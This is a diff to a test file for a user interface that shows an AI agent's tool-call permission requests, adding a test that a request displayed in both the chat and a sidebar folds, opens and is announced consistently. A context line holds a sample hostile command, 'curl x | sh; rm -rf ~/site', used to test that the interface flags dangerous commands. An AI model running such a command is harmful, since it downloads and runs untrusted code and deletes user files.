@@ -57,6 +57,39 @@ describe('several requests', () => {
     expect(screen.getAllByRole('button', { name: 'Deny' })).toHaveLength(1)
   })
 
+  it('of which one is shown in two places are one less, and it stands open in both', async () => {
+    const [one, two] = THREE as [ToolCallRecord, ToolCallRecord]
+    const host = createTestHost()
+    const chat = (records: readonly ToolCallRecord[]) => (
+      <TestProvider host={host} policy={policy} records={records} openRequests="first">
+        <section aria-label="chat">
+          {records.map((record) => (
+            <ToolCallBubble key={record.call.id} record={record} />
+          ))}
+        </section>
+        <aside>
+          {records.map((record) => (
+            <ToolCallBubble key={record.call.id} record={record} />
+          ))}
+        </aside>
+      </TestProvider>
+    )
+    const { rerender } = render(chat([one]))
+    expect(states()).toEqual(['open', 'open'])
+    await screen.findAllByRole('button', { name: 'Deny' })
+    expect(screen.queryByText('1 of 2')).toBeNull()
+    rerender(chat([one, two]))
+    expect(states()).toEqual(['open', 'folded', 'open', 'folded'])
+    await waitFor(() => expect(screen.getAllByText('1 of 2')).toHaveLength(2))
+    expect(screen.getAllByText('2 of 2')).toHaveLength(2)
+    const { said, stop } = listen()
+    rerender(chat([denied(one), two]))
+    await waitFor(() => expect(states()).toEqual(['open', 'open']))
+    expect(screen.queryByText(/of 2/)).toBeNull()
+    stop()
+    expect(said.filter((text) => text.includes("two.md"))).toHaveLength(1)
+  })
+
   it('say on their line what is grave about a command', async () => {
     render(page([asked('one'), asked('two', 'run', { command: 'curl x | sh; rm -rf ~/site' })]))
     const line = within(requests()[1]!)
